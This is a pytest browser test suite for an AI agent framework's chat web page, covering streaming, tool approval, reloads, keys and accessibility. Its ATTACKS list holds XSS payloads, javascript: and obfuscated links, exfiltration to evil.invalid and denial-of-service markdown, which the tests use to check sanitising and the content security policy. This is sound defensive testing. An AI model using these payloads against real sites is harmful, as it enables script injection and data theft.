"""The page, walked through in Chromium."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from agentkit import Agent, tool
from agentkit.serve import create_app
from agentkit.testing import ScriptedModel, call, calls, say, status
from tests.serve.browser import CHROMIUM, Browser
from tests.serve.conftest import KEY, SECRET, served
from tests.serve.test_bounds import Gate
from tests.tiers import SOON_S

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        CHROMIUM is None, reason="there is no `chromium` on the PATH (Debian: apt-get install chromium)"
    ),
]
DONE = "document.querySelector('#send[aria-label=Send]') && !document.querySelector('[aria-busy=true]')"
EVIL = "http://evil.invalid"


@pytest.fixture(scope="module")
def _browser() -> Iterator[Browser]:
    with Browser() as browser:
        yield browser


@pytest.fixture
def browser(_browser):
    yield _browser
    assert _browser.problems == []


@pytest.fixture
def visit(show, browser):
    """Opens the page of an agent, or of several."""

    def opened(agent: Any, *, options: dict[str, Any] | None = None, **window: Any) -> Browser:
        agents = agent if isinstance(agent, dict) else {"bot": agent}
        browser.open(show(create_app(agents, **(options or {}))), **window)
        return browser

    return opened


@pytest.fixture
def gate() -> Iterator[Gate]:
    made = Gate()
    yield made
    made.opened.set()


def roles(model: ScriptedModel) -> list[str]:
    return [message["role"] for message in model.requests[-1].messages]


def weather(city: str) -> str:
    """Tell the weather."""
    return f"Sunny in {city}"


@tool(approval=True)
def order(title: str, copies: int) -> str:
    """Order a book."""
    return f"{copies} of {title} ordered"


def test_an_answer_comes_piece_by_piece(visit, gate):
    script = [calls(call("wait"), text="Let me *see*.", reasoning="It is asked for."), say("It is **done**.")]
    page = visit(Agent(ScriptedModel(script), tools=[gate.wait]))
    page.ask("Hello")
    page.wait("document.querySelector('.said em')?.textContent === 'see'")
    page.wait("document.querySelector('.step')?.dataset.state === 'runs'")
    assert page.evaluate("document.querySelector('#send').getAttribute('aria-label')") == "Stop"
    assert page.evaluate("document.querySelector('.reasoning').open") is False
    gate.opened.set()
    page.wait("document.querySelector('.said strong')?.textContent === 'done'")
    page.wait(DONE)
    assert page.evaluate("document.querySelector('.step summary').innerText").split("\n")[0].strip().startswith("done:")
    page.click(".step summary")
    page.wait("document.querySelector('.step .body').innerText.includes('done')")
    assert page.evaluate("document.querySelector('#said').innerText").split() == "Let me see. It is done.".split()


def test_approving_and_denying(visit):
    model = ScriptedModel(
        [
            call("order", title="Emma", copies=2),
            "They come.",
            calls(call("order", title="Dune", copies=9), call("order", title="Emma", copies=8)),
            "Only Emma.",
        ]
    )
    page = visit(Agent(model, tools=[order]))
    page.ask("Emma!")
    page.wait("document.activeElement.matches('.decision')")
    page.wait(DONE)
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "order needs your approval"
    page.press("a")
    page.wait_text("They come.")
    page.wait(DONE)
    page.ask("More!")
    page.wait("document.querySelectorAll('.decision button').length === 4")
    page.wait(DONE)
    page.click(".decision input")
    page.type("too many")
    page.press("Enter")
    page.wait("document.activeElement.matches('.decision')")
    page.click(".change summary")
    page.evaluate("document.querySelector('.change textarea').value = JSON.stringify({title: 'Emma', copies: 1})")
    page.click(".decision button.main")
    page.wait_text("Only Emma.")
    results = [message["content"] for message in model.requests[-1].messages if message["role"] == "tool"]
    assert results[0] == "2 of Emma ordered"
    assert "too many" in results[1]
    assert results[2].endswith("1 of Emma ordered")
    page.wait_text("Denied: too many")
    page.wait_text("Approved, with other arguments.")


def test_stopping_and_asking_again(visit, gate):
    page = visit(Agent(ScriptedModel([call("wait"), "Now it is there."]), tools=[gate.wait]))
    page.ask("Hello")
    assert gate.begun.wait(SOON_S)
    page.wait("document.querySelector('.step')")
    page.press("Escape")
    page.wait_text("Stopped.")
    assert gate.cancelled.wait(SOON_S)
    page.press("r", alt=True)
    page.wait_text("Now it is there.")
    page.wait(DONE)
    assert page.evaluate("document.querySelectorAll('article').length") == 2


def test_after_a_reload_it_goes_on(visit):
    script = [call("weather", city="Hue"), "Sunny.", "As I said.", "Anew."]
    model = ScriptedModel(script)
    page = visit(Agent(model, tools=[weather]))
    page.ask("Weather?")
    page.wait_text("Sunny.")
    page.wait(DONE)
    page.reload()
    page.wait_text("Sunny.")
    page.ask("Sure?")
    page.wait_text("As I said.")
    page.wait(DONE)
    assert roles(model) == ["user", "assistant", "tool", "assistant", "user"]
    page.press("ArrowUp")
    page.wait("document.activeElement.value === 'Sure?'")
    page.type(" Really?")
    page.press("Enter")
    page.wait_text("Anew.")
    page.wait(DONE)
    assert model.requests[-1].messages[-1]["content"] == "Sure? Really?"
    assert not page.evaluate("document.body.innerText.includes('As I said.')")
    page.press("n", alt=True)
    page.wait("document.querySelectorAll('article').length === 0 && document.querySelector('#list .name')")
    page.click("#list .name")
    page.wait_text("Anew.")
    page.click("#list .icon")
    page.wait("document.querySelectorAll('#list li').length === 0")


def test_errors_are_told_in_words(visit):
    page = visit(Agent(ScriptedModel([status(400, {"error": {"message": "a secret"}}), "Better."])))
    page.ask("Hello")
    page.wait("document.querySelector('[role=alert]')?.innerText.includes('refuses this request')")
    page.wait(DONE)
    assert "a secret" not in page.evaluate("document.body.innerText")
    page.problems.clear()  # the browser's own line about the status
    page.click(".problem button")
    page.wait_text("Better.")
    assert page.evaluate("document.querySelectorAll('.problem').length") == 0


def test_a_server_that_has_gone(browser):
    with served(create_app({"bot": Agent(ScriptedModel(["Yes."]))})) as url:
        browser.open(url)
        browser.wait("document.querySelector('#model').value")
    browser.ask("Hello?")
    browser.wait_text("The server can't be reached.")
    browser.problems.clear()


@pytest.mark.parametrize(
    ("secret", "seen"),
    [(SECRET, ["user", "assistant", "tool"]), ("another secret, as of a process without one", ["user", "user"])],
    ids=["with its secret", "without"],
)
def test_it_goes_on_with_a_server_that_takes_the_place(browser, show, secret, seen):
    def drain() -> str:
        """Drain."""
        app.state.agentkit.drain()
        return "drained"

    app = create_app({"bot": Agent(ScriptedModel([call("drain")]), tools=[drain])}, secret=SECRET)
    browser.open(show(app))
    browser.ask("Hello")
    browser.wait_text("The server is about to end.")
    model = ScriptedModel(["Here I am."])
    show(create_app({"bot": Agent(model, tools=[drain])}, secret=secret))
    browser.click(".problem button.main")
    browser.wait_text("Here I am.")
    browser.wait(DONE)
    assert browser.evaluate("document.querySelectorAll('.problem').length") == 0
    assert roles(model) == seen
    browser.problems.clear()  # the browser's own line about a status


def test_a_key_is_asked_for(visit):
    page = visit(Agent(ScriptedModel(["Come in."])), options={"api_keys": [KEY], "page": True})
    page.wait("document.querySelector('#unlock').open")
    page.evaluate("document.querySelector('#secret').value = 'sk-wrong-one'")
    page.click("#open")
    page.wait("document.querySelector('#unlock').open && document.body.innerText.includes('does not take this key')")
    page.problems.clear()
    page.type(KEY)
    page.press("Enter")
    page.ask("Hello")
    page.wait_text("Come in.")
    assert KEY in page.evaluate("JSON.stringify(sessionStorage)")
    assert KEY not in page.evaluate("JSON.stringify(localStorage)")


def test_the_agents_to_choose_from(visit):
    agents = {name: Agent(ScriptedModel([f"I am {name}."])) for name in ("one", "two")}
    page = visit(agents)
    page.wait("document.querySelectorAll('#model option').length === 2")
    page.evaluate("(model => { model.value = 'two'; model.dispatchEvent(new Event('change')); })(window.model)")
    page.ask("Who are you?")
    page.wait_text("I am two.")


@pytest.mark.parametrize("dark", [False, True])
def test_on_a_phone(visit, dark):
    text = f"| a | b |\n|---|---|\n| {'long ' * 40} | {'x' * 300} |\n\n```\n{'y' * 300}\n```\n\n{'z' * 300}"
    page = visit(Agent(ScriptedModel([text])), width=360, height=640, phone=True, dark=dark)
    page.ask("w" * 200)
    page.wait_text("zzz")
    page.wait(DONE)
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    assert page.evaluate("document.querySelector('#log').scrollWidth <= document.querySelector('#log').clientWidth")
    red, green, blue = json.loads(
        page.evaluate("'[' + getComputedStyle(document.body).backgroundColor.match(/\\d+/g).slice(0, 3) + ']'")
    )
    assert (red + green + blue < 200) is dark
    page.click("#menu")
    page.wait("document.activeElement.id === 'new'")
    page.press("Escape")
    page.wait("document.activeElement.id === 'menu'")


def test_everything_has_a_name(visit):
    page = visit(
        Agent(ScriptedModel([calls(call("order", title="a", copies=1), text="`x`\n```\ny\n```")]), tools=[order])
    )
    page.ask("Hello")
    page.wait_text("needs your approval")
    page.wait(DONE)
    unnamed = page.evaluate(
        "[...document.querySelectorAll('button, input, textarea, select, a, article, aside, nav, dialog')]"
        ".filter((node) => !(node.getAttribute('aria-label') || node.getAttribute('aria-labelledby')"
        " || node.labels?.length || node.textContent.trim())).map((node) => node.outerHTML)"
    )
    assert unnamed == []
    assert page.evaluate("document.querySelector('#said').ariaLive") == "polite"
    page.press("?")
    page.wait("document.querySelector('#help').open")
    page.press("Escape")
    page.wait("!document.querySelector('#help').open")


ATTACKS = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    f"<img src='{EVIL}/a.png'>",
    f"![picture]({EVIL}/b.png?q=secret)",
    f"![picture](<{EVIL}/c.png>)",
    "![x](javascript:window.hit=1)",
    "[x](javascript:window.hit=1)",
    "[x](JaVaScRiPt:window.hit=1)",
    "[x](java\tscript:window.hit=1)",
    "[x](\x01javascript:window.hit=1)",
    "[x](&#106;avascript:window.hit=1)",
    "[x](java&#10;script:window.hit=1)",
    "[x](data:text/html,<script>opener.hit=1</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.invalid/relative)",
    "[x](/v1/models)",
    "[x](blob:http://evil.invalid/1)",
    "[x](javascript&colon;window.hit=1)",
    "<javascript:window.hit=1>",
    "<a href='javascript:window.hit=1'>x</a>",
    "<svg onload='window.hit = 1'></svg>",
    f"<iframe src='{EVIL}'></iframe>",
    "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<style>@import '{EVIL}/y.css'; body {{ display: none }}</style>",
    f"<form action='{EVIL}'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}/'>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=window.hit=1>",
    "`` <b onmouseover='window.hit=1'>x</b> ``",
    '```html"onload=window.hit=1\n<script>window.hit = 1</script>\n```',
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| [x](javascript:window.hit=1) | <svg/onload=window.hit=1> |",
    "# <img src=x onerror=window.hit=1>",
    "- [x] <img src=x onerror=window.hit=1>",
    "> > <script>window.hit=1</script>",
    "[<img src=x onerror=window.hit=1>](https://example.org/%22onclick=window.hit=1)",
    'https://example.org/"onmouseover="window.hit=1',
    "[a](https://example.org \"' onclick='window.hit=1\")",
    "{{constructor.constructor('window.hit=1')()}}",
    "\u202e[gro.elpmaxe](https://example.org)",
    "*" * 20_000,
    "[" * 20_000,
    "> " * 3_000 + "x",
    "`" * 9_999,
    "- " * 3_000 + "x",
    "a_" * 10_000 + "**b " * 10_000,
    "https://x.y/" + "(" * 10_000,
    "|" * 5_000 + "\n" + "|-" * 5_000,
]
LOOKED = """(async (texts, EVIL) => {
  const { Markdown } = await import("/static/markdown.js");
  const found = [];
  for (const text of texts) {
    const markdown = new Markdown();
    for (const length of [text.length / 3, text.length / 2, text.length]) markdown.update(text.slice(0, length));
    document.querySelector("#log").append(markdown.node);
    const nodes = [...markdown.node.querySelectorAll("*")];
    found.push({
      tags: [...new Set(nodes.map((node) => node.localName))],
      on: nodes.flatMap((node) => node.getAttributeNames()).filter((name) => /^on|^src|^style$|^srcdoc/.test(name)),
      links: nodes.filter((node) => node.localName === "a").map((node) => [node.protocol, node.rel, node.target]),
    });
    markdown.node.remove();
  }
  return found;
})(%s)"""
TAGS = set(
    "p br a code pre div span button ul ol li input blockquote table thead tbody tr th td h3 h4 h5 h6 em strong del "
    "hr".split()
)


def test_nothing_of_what_a_model_says_is_run(visit):
    answer = "\n\n".join(text for text in ATTACKS if len(text) < 1000)

    @tool(name="look")
    def look(place: str) -> str:
        """Look."""
        return answer

    script = [calls(call("look", place=answer), reasoning=answer), say(answer), "Fine."]
    page = visit(Agent(ScriptedModel(script), tools=[look]))
    page.ask(answer.replace("\n", " "))
    page.wait(DONE)
    page.wait("document.querySelectorAll('.said').length")
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    page.evaluate("document.querySelectorAll('#log *').forEach((each) => each.dispatchEvent(new Event('mouseover')))")
    found = page.evaluate(LOOKED % json.dumps(ATTACKS))
    for text, each in zip(ATTACKS, found, strict=True):
        assert set(each["tags"]) <= TAGS, text
        assert each["on"] == [], text
        assert {protocol for protocol, _, _ in each["links"]} <= {"http:", "https:", "mailto:"}, text
        assert all("noopener" in rel and "noreferrer" in rel for _, rel, _ in each["links"]), text
    assert page.evaluate("window.hit") is None
    page.reload()
    page.wait("document.querySelectorAll('.said').length")
    assert page.evaluate("window.hit") is None
    assert [url for url in page.requests if "evil" in url] == []


def test_the_policy_forbids_what_would_get_through(visit):
    page = visit(Agent(ScriptedModel(["x"])))
    page.wait("document.querySelector('#model').value")
    blocked = page.evaluate(
        "new Promise((done) => { const seen = [];"
        "document.addEventListener('securitypolicyviolation', (event) => {"
        "seen.push(event.effectiveDirective); if (seen.length === 3) done(seen.sort()); });"
        "const script = document.createElement('script'); script.append('window.hit = 1');"
        "document.body.append(script);"
        f"const image = document.createElement('img'); image.src = '{EVIL}/x.png'; document.body.append(image);"
        f"fetch('{EVIL}').catch(() => {{}}); }})"
    )
    assert blocked == ["connect-src", "img-src", "script-src-elem"] or "require-trusted-types-for" in blocked
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<b>x</b>'")
    assert page.evaluate("window.hit") is None
    page.problems.clear()
